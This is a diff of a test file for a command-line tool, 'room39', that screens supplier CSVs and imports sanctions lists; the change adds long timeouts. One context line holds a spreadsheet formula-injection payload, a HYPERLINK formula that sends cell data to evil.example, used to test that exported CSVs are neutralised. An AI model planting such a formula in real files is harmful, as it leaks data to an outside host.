@@ -36,6 +36,7 @@ const json = <T>(r: { stdout: string; stderr: string }): T => {
 };
 interface AuditList { records: { actor: string; action: string; target: string | null; after: Record<string, unknown> | null }[] }
 
+// Every check runs the real command line (a child process): slow on a loaded machine, hence the long timeouts.
 beforeAll(async () => {
   dataDir = await loadedDataDir();
 });
@@ -44,7 +45,7 @@ afterAll(() => {
   if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
 });
 
-describe('room39 screen', () => {
+describe('room39 screen', { timeout: 900_000 }, () => {
   it('screens the bundled supplier CSV, and the CSV it writes runs no formula', () => {
     const input = path.join(tmp, 'suppliers.csv');
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Kim Won Hong")';
@@ -72,7 +73,7 @@ describe('room39 screen', () => {
   });
 });
 
-describe('room39 import, diff and the audit trail', () => {
+describe('room39 import, diff and the audit trail', { timeout: 900_000 }, () => {
   it('imports a second version of the real UN list: what changed, in JSON, audited with the OS user', () => {
     const v2 = unSecondVersion(tmp);
     const r = room39(['import', 'un-xml', v2, '--json']);
@@ -111,7 +112,7 @@ describe('room39 import, diff and the audit trail', () => {
   });
 });
 
-describe('room39 extract and review', () => {
+describe('room39 extract and review', { timeout: 900_000 }, () => {
   let sourceId = '';
   it('extract --json finds the entities and figures of a seed document', () => {
     const r = room39(['extract', path.join(REPO_ROOT, 'data/sources/seeds/004_44246f2efce558ec.txt'), '--json']);
@@ -144,7 +145,7 @@ describe('room39 extract and review', () => {
   });
 });
 
-describe('room39 user and keys', () => {
+describe('room39 user and keys', { timeout: 900_000 }, () => {
   it('adds an admin from stdin, lists, disables; refuses a short password and an unknown role', () => {
     const added = room39(['user', 'add', 'alice', '--role', 'admin', '--password-stdin', '--json'], { input: 'a passphrase long enough\n' });
     expect(added.code, added.stderr).toBe(0);
